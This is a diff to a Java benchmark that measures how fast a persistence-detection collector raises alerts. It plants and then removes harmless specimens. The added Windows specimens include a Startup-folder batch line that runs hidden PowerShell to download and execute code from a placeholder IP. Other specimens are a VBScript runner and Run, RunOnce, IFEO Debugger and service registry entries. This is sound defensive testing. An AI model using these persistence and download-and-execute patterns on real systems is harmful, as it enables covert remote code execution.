@@ -16,10 +16,14 @@ import java.util.Locale;
 /**
  * Artefact on disk → alert stored. Plants harmless specimens, one at a time, in the places below, polls the collector's store
  * every 2 ms until the alert that names the file is in it, and removes the specimen. Arguments: folder of the store, specimens.
- * Nothing that is planted can run: what it names does not exist, and no scheduler is told.
+ * Nothing that is planted can run: what it names does not exist, and no scheduler is told. With the folder of a Wine prefix as third
+ * argument the places are those of that Windows.
  */
 public final class Latency {
     record Place(String location, String path, String content) {}
+
+    /** A value of a Windows' registry: set and removed by its own {@code reg}, whose end is when the time begins. */
+    record Value(String key, String name, String data) {}
 
     private static final String NOTHING = "/dev/shm/.vigie-bench-nothing";
 
@@ -38,16 +42,47 @@ public final class Latency {
             new Place("xdg autostart", "/etc/xdg/autostart/vigie-bench-%d.desktop", "[Desktop Entry]\nType=Application\nName=x\nExec=" + NOTHING + "\n"),
             new Place("udev", "/etc/udev/rules.d/99-vigie-bench-%d.rules", "ACTION==\"vigie-never\", RUN+=\"" + NOTHING + "\"\n"));
 
+    private static final String STARTUP = "ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/vigie-bench-%d";
+    private static final String CURRENT = "Software\\Microsoft\\Windows\\CurrentVersion\\";
+    private static final String GONE = "C:\\Users\\Public\\vigie-bench-%d.exe";
+
+    private static final List<Place> WINDOWS_FILES = List.of(
+            new Place("start folder", STARTUP + ".bat", "powershell -w hidden -c \"iex (iwr http://198.51.100.7/%d)\"\r\n"),
+            new Place("start folder, script", STARTUP + ".vbs", "CreateObject(\"WScript.Shell\").Run \"%d\"\r\n"));
+
+    private static final List<Value> WINDOWS_VALUES = List.of(
+            new Value("HKLM\\" + CURRENT + "Run", "vigie-bench-%d", GONE),
+            new Value("HKCU\\" + CURRENT + "Run", "vigie-bench-%d", GONE),
+            new Value("HKLM\\" + CURRENT + "RunOnce", "vigie-bench-%d", GONE),
+            new Value(
+                    "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\vigie-bench-%d.exe",
+                    "Debugger",
+                    GONE),
+            new Value("HKLM\\System\\CurrentControlSet\\Services\\vigie-bench-%d", "ImagePath", GONE));
+
     public static void main(String[] arguments) throws IOException, InterruptedException {
         int rounds = Integer.parseInt(arguments[1]);
         List<Double> times = new ArrayList<>();
         int missed = 0;
         try (SqliteStore store = SqliteStore.open(Path.of(arguments[0]), InstantSource.system())) {
             for (int round = 0; round < rounds; round++) {
-                Place place = PLACES.get(round % PLACES.size());
-                double millis = plant(store, Path.of(String.format(Locale.ROOT, place.path(), round)), content(place, round));
+                String where;
+                double millis;
+                if (arguments.length > 2 && round % 7 < WINDOWS_VALUES.size()) {
+                    Value value = WINDOWS_VALUES.get(round % 7);
+                    where = String.format(Locale.ROOT, value.key(), round);
+                    millis = plant(store, value, round);
+                } else {
+                    Place place = arguments.length > 2
+                            ? WINDOWS_FILES.get(round % 7 - WINDOWS_VALUES.size())
+                            : PLACES.get(round % PLACES.size());
+                    where = place.location();
+                    String path = String.format(Locale.ROOT, place.path(), round);
+                    Path file = arguments.length > 2 ? Path.of(arguments[2], "drive_c").resolve(path) : Path.of(path);
+                    millis = plant(store, file, content(place, round));
+                }
                 String seen = millis < 0 ? "NOT SEEN in 10 s" : String.format(Locale.ROOT, "%7.0f ms", millis);
-                System.out.printf(Locale.ROOT, "%-18s %s%n", place.location(), seen);
+                System.out.printf(Locale.ROOT, "%-18s %s%n", where, seen);
                 if (millis < 0) {
                     missed++;
                 } else {
@@ -86,17 +121,8 @@ public final class Latency {
                 throw new IOException(file + " is there already and is left alone", e);
             }
             Files.writeString(file, content);
-            while (System.nanoTime() - start < 10_000_000_000L) {
-                long from = last;
-                for (Alerts.Numbered each : store.read(s -> s.alerts().after(new Scope.All(), from, 1_000))) {
-                    last = Math.max(last, each.sequence());
-                    if (each.alert().evidence().values().stream().anyMatch(v -> v.contains(file.toString()))) {
-                        return (System.nanoTime() - start) / 1e6;
-                    }
-                }
-                Thread.sleep(2);
-            }
-            return -1;
+            // On a Windows the file has another path, and the same name.
+            return alerted(store, last, String.valueOf(file.getFileName()), start);
         } finally {
             if (mine) {
                 Files.deleteIfExists(file);
@@ -105,6 +131,49 @@ public final class Latency {
                 Files.deleteIfExists(made.pollLast());
             }
         }
+    }
+
+    private static double plant(SqliteStore store, Value value, int round) throws IOException, InterruptedException {
+        long last = lastSequence(store);
+        String key = String.format(Locale.ROOT, value.key(), round);
+        String name = String.format(Locale.ROOT, value.name(), round);
+        String data = String.format(Locale.ROOT, value.data(), round);
+        try {
+            wine("reg", "add", key, "/v", name, "/d", data, "/f");
+            return alerted(store, last, "vigie-bench-" + round, System.nanoTime());
+        } finally {
+            if (key.contains("vigie-bench")) {
+                wine("reg", "delete", key, "/f");
+            } else {
+                wine("reg", "delete", key, "/v", name, "/f");
+            }
+        }
+    }
+
+    private static void wine(String... words) throws IOException, InterruptedException {
+        List<String> all = new ArrayList<>(List.of("wine"));
+        all.addAll(List.of(words));
+        new ProcessBuilder(all)
+                .redirectOutput(ProcessBuilder.Redirect.DISCARD)
+                .redirectError(ProcessBuilder.Redirect.DISCARD)
+                .start()
+                .waitFor();
+    }
+
+    /** Milliseconds until an alert names it; negative where none does in ten seconds. */
+    private static double alerted(SqliteStore store, long after, String named, long start) throws InterruptedException {
+        long last = after;
+        while (System.nanoTime() - start < 10_000_000_000L) {
+            long from = last;
+            for (Alerts.Numbered each : store.read(s -> s.alerts().after(new Scope.All(), from, 1_000))) {
+                last = Math.max(last, each.sequence());
+                if (each.alert().evidence().values().stream().anyMatch(v -> v.contains(named))) {
+                    return (System.nanoTime() - start) / 1e6;
+                }
+            }
+            Thread.sleep(2);
+        }
+        return -1;
     }
 
     private static long lastSequence(SqliteStore store) {
@@ -121,7 +190,10 @@ public final class Latency {
 
     /** Another specimen each round: the same one again would be counted under its open alert, not raised anew. */
     private static String content(Place place, int round) {
-        return place.content().replace(NOTHING, NOTHING + round).replace("XXX", String.format(Locale.ROOT, "%03d", round));
+        return place.content()
+                .replace("%d", String.valueOf(round))
+                .replace(NOTHING, NOTHING + round)
+                .replace("XXX", String.format(Locale.ROOT, "%03d", round));
     }
 
     private static double at(double[] sorted, double share) {
